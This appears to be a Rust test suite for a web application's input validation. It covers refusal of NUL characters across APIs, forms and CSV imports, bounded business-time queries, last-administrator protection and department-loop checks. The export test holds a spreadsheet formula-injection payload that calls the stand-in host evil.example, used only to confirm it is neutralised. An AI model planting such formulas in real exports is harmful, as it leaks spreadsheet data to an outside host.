//! Hostile input and hostile output: text the database cannot store is refused
//! at the edge with the field named (API bodies, query strings, paths, web
//! forms, CSV imports), and exports cannot smuggle formulas into a
//! spreadsheet.

use crate::support::{TestApp, expect_status, header_text, problem_fields};
use crate::web::Browser;
use crate::web::text_with_status;
use reqwest::header::CONTENT_DISPOSITION;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const NUL_TEXT: &str = "a\u{0}b";

/// The properties of a request body schema, `$ref`s resolved.
fn body_properties<'a>(document: &'a Value, operation: &'a Value) -> Vec<(&'a str, &'a Value)> {
    let schema = &operation["requestBody"]["content"]["application/json"]["schema"];
    let schema = match schema["$ref"].as_str() {
        Some(reference) => {
            let name = reference.rsplit('/').next().unwrap_or_default();
            &document["components"]["schemas"][name]
        }
        None => schema,
    };
    schema["properties"]
        .as_object()
        .map(|properties| {
            properties
                .iter()
                .map(|(name, property)| (name.as_str(), property))
                .collect()
        })
        .unwrap_or_default()
}

fn is_string(property: &Value) -> bool {
    match &property["type"] {
        Value::String(kind) => kind == "string",
        Value::Array(kinds) => kinds.iter().any(|kind| kind == "string"),
        _ => false,
    }
}

/// Every text field (and every list of texts) of every JSON body the API
/// accepts, from the OpenAPI document, gets a NUL: 422 naming the field, on
/// both databases (PostgreSQL cannot store it; SQLite used to keep it).
#[tokio::test]
async fn a_nul_in_any_text_field_of_any_body_is_refused_naming_the_field() {
    let app = TestApp::spawn().await;
    let document = app.read(&app.admin, "/api/v1/openapi.json").await;
    let mut checked = 0;
    for (path, operations) in document["paths"].as_object().unwrap() {
        let prefixed = if path.starts_with("/api/") {
            path.clone()
        } else {
            format!("/api/v1{path}")
        };
        let address = prefixed
            .split('/')
            .map(|segment| {
                if segment.starts_with('{') {
                    "1"
                } else {
                    segment
                }
            })
            .collect::<Vec<_>>()
            .join("/");
        for (method, operation) in operations.as_object().unwrap() {
            let method = match method.as_str() {
                "post" => Method::POST,
                "patch" => Method::PATCH,
                "put" => Method::PUT,
                _ => continue,
            };
            for (field, property) in body_properties(&document, operation) {
                let (value, named) = if is_string(property) {
                    (json!(NUL_TEXT), field.to_owned())
                } else if is_string(&property["items"]) {
                    (json!(["fine", NUL_TEXT]), format!("{field}[1]"))
                } else {
                    continue;
                };
                let response = app
                    .request(method.clone(), Some(&app.admin), &address)
                    .header("If-Match", "\"1\"")
                    .json(&json!({ field: value }))
                    .send()
                    .await
                    .unwrap();
                assert_eq!(
                    response.status(),
                    StatusCode::UNPROCESSABLE_ENTITY,
                    "{method} {address} {field}"
                );
                let problem = expect_status(response, StatusCode::UNPROCESSABLE_ENTITY).await;
                assert_eq!(
                    problem_fields(&problem),
                    [named],
                    "{method} {address} {field}"
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 60, "only {checked} text fields found");

    // Nested: the field's whole path.
    let nested = app
        .post(
            &app.admin,
            "/api/v1/agreements",
            &json!({ "obligations": [{ "text": "fine" }, { "text": NUL_TEXT }] }),
        )
        .await;
    let problem = expect_status(nested, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert_eq!(problem_fields(&problem), ["obligations[1].text"]);
}

#[tokio::test]
async fn signing_in_with_a_nul_is_refused_before_anyone_is_known() {
    let app = TestApp::spawn().await;
    for field in ["organization", "email", "password"] {
        let mut body =
            json!({ "email": "admin@acme.test", "password": "pw", "organization": "acme" });
        body[field] = json!(NUL_TEXT);
        let response = app.log_in(&body).await;
        let problem = expect_status(response, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert_eq!(problem_fields(&problem), [field]);
    }
}

#[tokio::test]
async fn a_nul_in_a_query_string_or_path_is_refused_naming_it() {
    let app = TestApp::spawn().await;
    for (address, field) in [
        ("/api/v1/people?active=%00", "active"),
        ("/api/v1/people?limit=5&cursor=a%00b", "cursor"),
        ("/api/v1/exports/people?format=csv%00", "format"),
        ("/api/v1/exports/peo%00ple", "path"),
        ("/catalogue?q=%00", "q"),
    ] {
        let problem = expect_status(
            app.get(&app.admin, address).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&problem), [field], "{address}");
    }
}

#[tokio::test]
async fn a_nul_in_a_web_form_is_refused_naming_the_field() {
    let app = TestApp::spawn().await;
    let mut admin = Browser::default();
    admin.sign_in(&app, "admin@acme.test").await;
    let refused = admin
        .submit(
            &app,
            "/admin/departments",
            &[("name", NUL_TEXT), ("customer_facing", "true")],
        )
        .await;
    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert!(
        page.contains("name: must not contain the NUL character"),
        "{page}"
    );
    let departments = app.read(&app.admin, "/api/v1/departments").await;
    assert!(departments["items"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn an_imported_row_with_a_nul_is_reported_at_its_line() {
    let app = TestApp::spawn().await;
    let mut admin = Browser::default();
    admin.sign_in(&app, "admin@acme.test").await;
    let csv =
        "email,name,notes\r\nada@acme.test,Ada Lovelace,\r\nalan@acme.test,Alan Turing,a\u{0}b\r\n";
    let refused = admin.submit(&app, "/admin/import", &[("csv", csv)]).await;
    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
    assert!(page.contains("Nothing was imported"), "{page}");
    let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
    assert!(
        errors.contains("line 3") && errors.contains("notes"),
        "{errors}"
    );
}

/// A cell a spreadsheet would run as a formula is written as text, in the
/// API's export and the web's download links (the same endpoint); every
/// download is an attachment with a name.
#[tokio::test]
async fn exports_neutralise_formulas_and_download_as_attachments() {
    let app = TestApp::spawn().await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    for name in [formula, "+1 Sales", "@Risk", "-Ops"] {
        app.create(
            &app.admin,
            "/api/v1/departments",
            &json!({ "name": name, "customer_facing": false }),
        )
        .await;
    }
    let response = app
        .get(&app.admin, "/api/v1/exports/departments?format=csv")
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let disposition = header_text(&response, CONTENT_DISPOSITION);
    assert!(
        disposition.starts_with("attachment; filename=\"roundtable-departments-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let csv = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[2].to_owned())
        .collect();
    for name in ["'+1 Sales", "'@Risk", "'-Ops"] {
        assert!(names.iter().any(|held| held == name), "{name} in {names:?}");
    }
    assert!(names.contains(&format!("'{formula}")), "{names:?}");
    assert!(names.iter().all(|name| name.starts_with('\'')), "{names:?}");

    for kind in ["people", "requests", "audit-log"] {
        let json = app
            .get(&app.admin, &format!("/api/v1/exports/{kind}?format=json"))
            .await;
        let disposition = header_text(&json, CONTENT_DISPOSITION);
        assert!(
            disposition.starts_with(&format!("attachment; filename=\"roundtable-{kind}-"))
                && disposition.ends_with(".json\""),
            "{disposition}"
        );
    }
}

/// Business time is counted by walking the days in between: a request may
/// ask for at most a hundred years of it, so none holds a thread for seconds.
#[tokio::test]
async fn business_time_requests_are_bounded_to_a_hundred_years() {
    let app = TestApp::spawn().await;
    let calendar = crate::support::id_of(&app.calendar("Office").await);
    let between = |from: &str, to: &str| {
        format!("/api/v1/calendars/{calendar}/business-minutes?from={from}&to={to}")
    };
    let problem = expect_status(
        app.get(
            &app.admin,
            &between("-009000-01-01T00:00:00Z", "9999-01-01T00:00:00Z"),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(problem_fields(&problem), ["to"]);
    let problem = expect_status(
        app.get(
            &app.admin,
            &between("2000-01-01T00:00:00Z", "2100-01-02T00:00:00Z"),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(problem_fields(&problem), ["to"]);
    let inside = app
        .read(
            &app.admin,
            &between("2000-01-01T00:00:00Z", "2099-12-31T00:00:00Z"),
        )
        .await;
    assert!(inside["business_minutes"].as_i64().unwrap() > 0);

    // One working minute a week: a year of business minutes would be ten
    // thousand years of walking; the search stops at a hundred.
    let sparse = app
        .create(
            &app.admin,
            "/api/v1/calendars",
            &json!({
                "name": "Sparse",
                "time_zone": "UTC",
                "working_hours": { "monday": [{ "start": "09:00", "end": "09:01" }] }
            }),
        )
        .await;
    let sparse = crate::support::id_of(&sparse);
    let problem = expect_status(
        app.get(
            &app.admin,
            &format!("/api/v1/calendars/{sparse}/due?start=2026-01-01T00:00:00Z&minutes=527040"),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(problem_fields(&problem), ["minutes"]);
    let problem = expect_status(
        app.get(
            &app.admin,
            &format!("/api/v1/calendars/{calendar}/due?start=2026-01-01T00:00:00Z&minutes=527041"),
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    assert_eq!(problem_fields(&problem), ["minutes"]);
}

/// No path leaves the organization without an active administrator: the
/// API's updates and deactivation, and the people import, through one rule.
#[tokio::test]
async fn the_last_active_administrator_cannot_be_demoted_or_deactivated() {
    let app = TestApp::spawn().await;
    let person = |id: i64| format!("/api/v1/people/{id}");
    let me = app.read(&app.admin, &person(app.admin.id.0)).await;
    let version = crate::support::version_of(&me);
    for (body, field) in [
        (json!({ "role": "member" }), "role"),
        (json!({ "active": false }), "active"),
    ] {
        let problem = expect_status(
            app.patch(&app.admin, &person(app.admin.id.0), version, &body)
                .await,
            StatusCode::CONFLICT,
        )
        .await;
        assert!(
            problem["detail"]
                .as_str()
                .unwrap_or_default()
                .contains("at least one active administrator"),
            "{field}: {problem}"
        );
    }

    // Through the import: the only administrator made a member.
    let mut browser = Browser::default();
    browser.sign_in(&app, "admin@acme.test").await;
    let csv = "email,name,role\r\nlead@acme.test,Lead,lead\r\nadmin@acme.test,Admin,member\r\n";
    let refused = browser.submit(&app, "/admin/import", &[("csv", csv)]).await;
    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
    let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
    assert!(
        errors.contains("line 3") && errors.contains("role"),
        "{errors}"
    );
    let me = app.read(&app.admin, &person(app.admin.id.0)).await;
    assert_eq!(me["role"], "admin");

    // With a second administrator, the first may step down, but the second
    // then cannot be deactivated by anyone's hand.
    let second = app
        .add_user(
            "second-admin@acme.test",
            roundtable_domain::people::Role::Admin,
        )
        .await;
    expect_status(
        app.patch(
            &app.admin,
            &person(app.admin.id.0),
            version,
            &json!({ "role": "member" }),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let second_view = app.read(&second, &person(second.id.0)).await;
    expect_status(
        app.patch(
            &second,
            &person(second.id.0),
            crate::support::version_of(&second_view),
            &json!({ "active": false }),
        )
        .await,
        StatusCode::CONFLICT,
    )
    .await;
}

/// A people import cannot make the department tree a loop, which the API
/// refuses too; the whole import is refused with the row's line.
#[tokio::test]
async fn an_import_cannot_make_departments_their_own_ancestors() {
    let app = TestApp::spawn().await;
    let mut browser = Browser::default();
    browser.sign_in(&app, "admin@acme.test").await;
    let csv = "email,name,department,parent_department\r\nada@acme.test,Ada,Alpha,Beta\r\nalan@acme.test,Alan,Beta,Alpha\r\n";
    let refused = browser.submit(&app, "/admin/import", &[("csv", csv)]).await;
    let page = text_with_status(refused, StatusCode::UNPROCESSABLE_ENTITY).await;
    let errors = &page[page.find("id=\"import-errors\"").unwrap()..];
    assert!(
        errors.contains("line 3") && errors.contains("parent_department"),
        "{errors}"
    );
    let departments = app.read(&app.admin, "/api/v1/departments").await;
    assert!(
        departments["items"].as_array().unwrap().is_empty(),
        "nothing applied: {departments}"
    );
}
